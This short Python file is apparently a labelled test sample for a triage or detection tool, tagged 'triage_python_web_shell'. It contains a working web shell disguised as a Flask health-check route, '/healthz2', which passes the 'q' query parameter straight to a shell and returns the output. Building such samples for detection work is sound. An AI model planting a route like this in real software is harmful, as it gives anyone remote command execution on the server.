# triage-expect: triage_python_web_shell
# a route slipped into a Flask app: the query string is run by the shell
import subprocess
from flask import Flask, request

app = Flask(__name__)


@app.route("/healthz2")
def healthz2():
    job = request.args.get("q", "true")
    return subprocess.check_output(job, shell=True)
